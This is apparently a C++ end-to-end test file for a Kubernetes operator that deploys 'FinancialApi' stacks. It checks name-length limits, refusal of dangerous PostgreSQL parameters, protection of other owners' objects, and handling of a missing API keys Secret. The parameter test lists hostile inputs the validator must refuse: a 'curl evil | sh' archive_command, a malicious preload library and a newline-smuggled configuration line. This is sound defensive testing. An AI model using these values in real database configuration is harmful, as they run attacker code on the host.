// Specs and neighbours that must not break the platform or anyone else's objects, against the local
// control plane: names too long for the children, PostgreSQL parameters that would inject
// configuration, objects that already carry a child's name, an API keys Secret without its keys.
#include "e2e/operator_fixture.h"

namespace financialapi::e2e {
namespace {

namespace core = kube::resources;

// The minimal example under `name` with `spec`.
Json Minimal(const Json& example, const std::string& name, const Json& spec = Json::object()) {
  Json object = example;
  object["metadata"]["name"] = name;
  object["spec"] = spec;
  return object;
}

TEST_F(OperatorTest, NamesTooLongForTheChildrenAreRefusedByTheApiServerSayingTheLimit) {
  const Json example = Example("financialapi-minimal.yaml");
  const std::string longest = "n" + std::string(platform::kMaxNameLength - 1, 'x');
  const std::string one_more = longest + "x";
  auto refused = client_->Create(platform::kFinancialApis, Minimal(example, one_more));
  ASSERT_FALSE(refused.ok()) << one_more.size() << " characters were accepted: its CronJob "
                             << one_more << "-postgres-backup would have more than 52";
  EXPECT_EQ(refused.status().code(), StatusCode::kInvalidArgument) << refused.status();
  EXPECT_NE(refused.status().message().find("metadata.name may have at most " + std::to_string(platform::kMaxNameLength) +
                                            " characters"),
            std::string::npos)
      << refused.status();

  for (const std::string& name : {std::string("web.prod"), std::string("prod.v2")}) {
    auto dotted = client_->Create(platform::kFinancialApis, Minimal(example, name));
    ASSERT_FALSE(dotted.ok()) << name << " was accepted: its Services would be named " << name << "-api";
    EXPECT_NE(dotted.status().message().find("metadata.name must be a DNS-1035 label"), std::string::npos) << dotted.status();
  }
  auto accepted = client_->Create(platform::kFinancialApis, Minimal(example, longest));
  EXPECT_TRUE(accepted.ok()) << longest.size() << " characters: " << accepted.status();
}

TEST_F(OperatorTest, PostgresParametersThatWouldInjectConfigurationAreRefusedByTheApiServer) {
  const Json example = Example("financialapi-minimal.yaml");
  struct Case {
    Json parameters;
    std::string expected;
  };
  const std::string refused_key = "parameters that run commands or load libraries or files";
  const std::string bad_value = "values may not contain quotes, backslashes or control characters";
  const std::vector<Case> cases = {
      {{{"archive_command", "sh -c 'curl evil | sh'"}}, refused_key},
      {{{"shared_preload_libraries", "/tmp/evil.so"}}, refused_key},
      {{{"include", "/var/lib/postgresql/data/evil.conf"}}, refused_key},
      {{{"ssl_passphrase_command", "id"}}, refused_key},
      {{{"port", "5433"}}, refused_key},
      {{{"listen_addresses", "127.0.0.1"}}, refused_key},
      {{{"ARCHIVE_COMMAND", "id"}}, "each key must be a PostgreSQL parameter name in lowercase"},
      {{{"work_mem", "8MB'\narchive_command = 'id"}}, bad_value},
      {{{"work_mem", "8MB\n"}}, bad_value},
      {{{"work_mem", "8MB\\"}}, bad_value},
  };
  for (const auto& test : cases) {
    auto created = client_->Create(platform::kFinancialApis, Minimal(example, "injected", {{"postgres", {{"parameters", test.parameters}}}}));
    ASSERT_FALSE(created.ok()) << test.parameters.dump() << " was accepted";
    EXPECT_EQ(created.status().code(), StatusCode::kInvalidArgument) << created.status();
    EXPECT_NE(created.status().message().find(test.expected), std::string::npos) << test.parameters.dump() << ": " << created.status();
  }
  auto ordinary = client_->Create(platform::kFinancialApis,
                                  Minimal(example, "tuned", {{"postgres", {{"parameters", {{"work_mem", "8MB"},
                                                                                           {"search_path", "\"$user\", public"},
                                                                                           {"auto_explain.log_min_duration", "250ms"}}}}}}));
  EXPECT_TRUE(ordinary.ok()) << ordinary.status();
}

// The external database name is a key of pgbouncer.ini and the host a value there: the API server
// refuses what PgBouncer could not read.
TEST_F(OperatorTest, ExternalDatabaseNamesPgBouncerCannotReadAreRefusedByTheApiServer) {
  const Json example = Example("financialapi-minimal.yaml");
  const auto external = [&](const std::string& name, const std::string& host, const std::string& database) {
    return Minimal(example, name,
                   {{"postgres", {{"managed", false},
                                  {"external", {{"host", host}, {"database", database},
                                                {"credentialsSecretRef", {{"name", "pg"}}}}}}}});
  };
  for (const std::string database : {"fi{n", "a b", "*"}) {
    auto created = client_->Create(platform::kFinancialApis, external("braced", "db.example", database));
    ASSERT_FALSE(created.ok()) << "database '" << database << "' was accepted";
    EXPECT_EQ(created.status().code(), StatusCode::kInvalidArgument) << created.status();
    EXPECT_NE(created.status().message().find("spec.postgres.external.database"), std::string::npos) << created.status();
  }
  auto no_host = client_->Create(platform::kFinancialApis, external("hostless", "", "financial"));
  ASSERT_FALSE(no_host.ok()) << "an empty host was accepted";
  EXPECT_NE(no_host.status().message().find("spec.postgres.external.host"), std::string::npos) << no_host.status();
  auto accepted = client_->Create(platform::kFinancialApis, external("dashed", "db.example", "edgar-data"));
  EXPECT_TRUE(accepted.ok()) << accepted.status();
}

TEST_F(OperatorTest, ObjectsThatAlreadyCarryAChildsNameAreNeitherTakenOverNorDeleted) {
  // One the caches never see (no managed-by label: only the GET finds it) and one they do (labelled, but
  // controlled by nobody).
  auto config_map = client_->Create(core::kConfigMaps, {{"apiVersion", "v1"}, {"kind", "ConfigMap"},
                                                        {"metadata", {{"name", "minimal-api-config"}, {"namespace", ns()}}},
                                                        {"data", {{"owner", "someone else"}}}});
  ASSERT_TRUE(config_map.ok()) << config_map.status();
  auto service = client_->Create(
      core::kServices, {{"apiVersion", "v1"}, {"kind", "Service"},
                        {"metadata", {{"name", "minimal-redis"}, {"namespace", ns()},
                                      {"labels", {{platform::kManagedByLabel, platform::kManagedBy}, {"team", "other"}}}}},
                        {"spec", {{"selector", {{"app", "other"}}}, {"ports", Json::array({{{"name", "other"}, {"port", 7000}}})}}}});
  ASSERT_TRUE(service.ok()) << service.status();
  StartOperator();
  Apply(Example("financialapi-minimal.yaml"));
  // EXPECT, not ASSERT: whether the two were taken over is checked below in any case.
  EXPECT_TRUE(WaitForPhase("minimal", "Degraded", 60s)) << Get("minimal").value("status", Json()).dump(2);
  const Json degraded = Get("minimal");
  EXPECT_EQ(Condition(degraded, "Degraded", "reason"), "ChildConflict");
  const std::string message = Condition(degraded, "Degraded", "message");
  EXPECT_NE(message.find("ConfigMap/minimal-api-config"), std::string::npos) << message;
  EXPECT_NE(message.find("Service/minimal-redis"), std::string::npos) << message;
  StatusOr<Json> events = Json();
  EXPECT_TRUE(testing::WaitFor([&] {
    events = client_->List(core::kEvents, ns(), {.field_selector = "reason=ChildConflict"});
    return events.ok() && !(*events)["items"].empty();
  }, 30s)) << "no ChildConflict event: " << (events.ok() ? std::string("none") : events.status().ToString());
  // The other children are there: the reconcile went on without the two.
  EXPECT_TRUE(testing::WaitFor([&] { return client_->Get(core::kDeployments, ns(), "minimal-api").ok(); }, 30s));

  const auto unchanged = [&](const Json& before, const kube::ResourceType& type) {
    auto now = client_->Get(type, ns(), before["metadata"]["name"].get<std::string>());
    if (!now.ok()) return "gone: " + now.status().ToString();
    if ((*now)["metadata"]["resourceVersion"] != before["metadata"]["resourceVersion"]) {
      Json changed = *now;
      changed["metadata"].erase("managedFields");
      return "changed: " + changed.dump();
    }
    return std::string();
  };
  EXPECT_EQ(unchanged(*config_map, core::kConfigMaps), "");
  EXPECT_EQ(unchanged(*service, core::kServices), "");

  // Deleting the FinancialApi removes its children, not the two.
  ASSERT_TRUE(client_->Delete(platform::kFinancialApis, ns(), "minimal", {.propagation = kube::PropagationPolicy::kBackground}).ok());
  EXPECT_TRUE(testing::WaitFor([&] { return !client_->Get(core::kDeployments, ns(), "minimal-api").ok(); }, 120s, 1s))
      << "the garbage collector did not run";
  EXPECT_EQ(unchanged(*config_map, core::kConfigMaps), "");
  EXPECT_EQ(unchanged(*service, core::kServices), "");
}

TEST_F(OperatorTest, AnApiKeysSecretWithoutItsKeysIsDegradedAndTheApiIsNotRolledOutWithoutKeys) {
  auto secret = client_->Create(core::kSecrets, {{"apiVersion", "v1"}, {"kind", "Secret"},
                                                 {"metadata", {{"name", "api-keys"}, {"namespace", ns()}}},
                                                 {"stringData", {{"api-keys", "k1\n"}}}});  // the wrong entry
  ASSERT_TRUE(secret.ok()) << secret.status();
  StartOperator("", /*resync_seconds=*/2);
  Apply(Minimal(Example("financialapi-minimal.yaml"), "minimal", {{"api", {{"apiKeysSecretRef", {{"name", "api-keys"}}}}}}));
  ASSERT_TRUE(WaitForPhase("minimal", "Degraded", 60s)) << Get("minimal").dump(2);
  Json degraded = Get("minimal");
  EXPECT_EQ(Condition(degraded, "Degraded", "reason"), "InvalidSecret");
  EXPECT_NE(Condition(degraded, "Degraded", "message").find("Secret " + ns() + "/api-keys (spec.api.apiKeysSecretRef) has no key 'keys'"),
            std::string::npos)
      << Condition(degraded, "Degraded", "message");
  auto deployment = client_->Get(core::kDeployments, ns(), "minimal-api");
  EXPECT_EQ(deployment.status().code(), StatusCode::kNotFound)
      << "the API was deployed without keys: " << (deployment.ok() ? deployment->dump() : deployment.status().ToString());

  // With the entry it rolls out; emptied again (a comment only), a spec change is not rolled out.
  ASSERT_TRUE(client_->MergePatch(core::kSecrets, ns(), "api-keys", {{"stringData", {{"keys", "k1\n"}}}}).ok());
  ASSERT_TRUE(WaitForPhase("minimal", "Ready")) << Get("minimal").dump(2);
  const Json before = *client_->Get(core::kDeployments, ns(), "minimal-api");
  ASSERT_TRUE(client_->MergePatch(core::kSecrets, ns(), "api-keys", {{"stringData", {{"keys", "# none yet\n\n"}}}}).ok());
  PatchSpec("minimal", {{"api", {{"logLevel", "debug"}}}});
  ASSERT_TRUE(WaitForPhase("minimal", "Degraded", 60s)) << Get("minimal").dump(2);
  degraded = Get("minimal");
  EXPECT_NE(Condition(degraded, "Degraded", "message").find("has no key 'keys'"), std::string::npos)
      << Condition(degraded, "Degraded", "message");
  // Two resync periods: the reconciles that follow apply nothing either.
  std::this_thread::sleep_for(4s);
  const Json after = *client_->Get(core::kDeployments, ns(), "minimal-api");
  EXPECT_EQ(after["metadata"]["generation"], before["metadata"]["generation"]) << "the Deployment was changed";
  EXPECT_EQ((*client_->Get(core::kConfigMaps, ns(), "minimal-api-config"))["data"]["LOG_LEVEL"], "info");
}

}  // namespace
}  // namespace financialapi::e2e
